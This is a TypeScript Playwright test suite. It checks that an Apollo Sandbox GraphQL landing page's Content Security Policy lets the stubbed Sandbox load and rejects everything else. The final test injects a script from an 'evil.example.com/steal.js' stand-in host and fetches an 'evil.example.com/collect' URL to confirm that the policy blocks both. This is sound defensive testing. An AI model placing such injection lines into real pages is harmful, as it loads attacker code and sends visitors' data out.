import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { launchChromium } from '../helpers/browser.js';
import { startHarness, type Harness } from '../helpers/harness.js';

/**
 * Stand-ins for Apollo's CDN, served by the browser itself since tests have no Internet. The embed
 * script does what the real one does on load: puts the Sandbox in an iframe and queries the
 * endpoint from this page. Fonts, favicon and manifest are the page's own links.
 */
const CDN: Record<string, { contentType: string; body: string }> = {
  'https://embeddable-sandbox.cdn.apollographql.com/': {
    contentType: 'application/javascript',
    body: `window.EmbeddedSandbox = function (config) {
      var frame = document.createElement('iframe');
      frame.src = 'https://sandbox.embed.apollographql.com/sandbox/explorer';
      document.getElementById('embeddableSandbox').append(frame);
      fetch(config.initialEndpoint, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query":"{ __typename }"}' })
        .then(function (r) { return r.json(); })
        .then(function (body) { window.sandboxQueried = body; });
      var socket = new WebSocket(config.initialEndpoint.replace(/^http/, 'ws'), 'graphql-transport-ws');
      socket.onopen = function () { socket.send('{"type":"connection_init","payload":{}}'); };
      socket.onmessage = function (event) {
        var message = JSON.parse(event.data);
        if (message.type === 'connection_ack') socket.send('{"id":"1","type":"subscribe","payload":{"query":"subscription { publicMessageFeed { text } }"}}');
        if (message.type === 'next') { window.sandboxSubscribed = message.payload; socket.close(); }
      };
    };`,
  },
  'https://sandbox.embed.apollographql.com/': { contentType: 'text/html', body: '<p id="sandbox">Apollo Sandbox</p>' },
  'https://fonts.googleapis.com/': {
    contentType: 'text/css',
    body: "@font-face { font-family: 'Source Sans Pro'; src: url(https://fonts.gstatic.com/s/ssp.woff2); } body { font-family: 'Source Sans Pro'; }",
  },
  'https://fonts.gstatic.com/': { contentType: 'font/woff2', body: '' },
  'https://apollo-server-landing-page.cdn.apollographql.com/': { contentType: 'application/json', body: '{}' },
};

describe('the Apollo Sandbox landing page in a real browser', () => {
  let h: Harness;
  let browser: Browser;
  before(async () => {
    browser = await launchChromium();
    h = await startHarness();
  });
  after(async () => {
    await browser?.close();
    await h?.close();
  });

  async function openLandingPage(): Promise<{ page: Page; violations: string[] }> {
    const page = await browser.newPage();
    const violations: string[] = [];
    await page.exposeFunction('reportViolation', (line: string) => violations.push(line));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        (window as unknown as { reportViolation(line: string): void }).reportViolation(`${event.effectiveDirective} ${event.blockedURI}`);
      });
    });
    for (const [prefix, { contentType, body }] of Object.entries(CDN)) {
      await page.route(`${prefix}**`, (route) => route.fulfill({ status: 200, contentType, body }));
    }
    await page.goto(`${h.url}/graphql`);
    return { page, violations };
  }

  it('loads the Sandbox: its script, styles, fonts, iframe and queries, with no policy violation', async () => {
    const { page, violations } = await openLandingPage();
    await page.waitForFunction(() => 'sandboxQueried' in window, undefined, { timeout: 30_000 });
    assert.deepEqual(await page.evaluate(() => (window as unknown as { sandboxQueried: unknown }).sandboxQueried), { data: { __typename: 'Query' } });
    const sandbox = page.frames().find((frame) => frame.url().startsWith('https://sandbox.embed.apollographql.com/'));
    assert.ok(sandbox, 'the Sandbox iframe');
    assert.equal(await sandbox.locator('#sandbox').textContent(), 'Apollo Sandbox');
    await page.evaluate(() => document.fonts.ready);
    assert.deepEqual(violations, []);
    await page.close();
  });

  it("subscribes over the Sandbox's subscription URL, the endpoint's own over ws:, from the page's origin", async () => {
    const { page, violations } = await openLandingPage();
    await page.waitForFunction(() => 'sandboxSubscribed' in window, undefined, { timeout: 30_000 });
    assert.deepEqual(await page.evaluate(() => (window as unknown as { sandboxSubscribed: unknown }).sandboxSubscribed), {
      data: { publicMessageFeed: { text: 'This is a public message.' } },
    });
    assert.deepEqual(violations, []);
    await page.close();
  });

  it('still refuses what the Sandbox does not need', async () => {
    const { page, violations } = await openLandingPage();
    await page.waitForFunction(() => 'sandboxQueried' in window, undefined, { timeout: 30_000 });
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example.com/steal.js';
      document.body.append(script);
      void fetch('https://evil.example.com/collect').catch(() => undefined);
    });
    // The reports arrive asynchronously; wait for two of them, generously.
    for (let waited = 0; violations.length < 2 && waited < 10_000; waited += 50) await page.waitForTimeout(50);
    assert.ok(violations.includes('script-src-elem https://evil.example.com/steal.js'), violations.join('\n'));
    assert.ok(violations.includes('connect-src https://evil.example.com/collect'), violations.join('\n'));
    await page.close();
  });
});
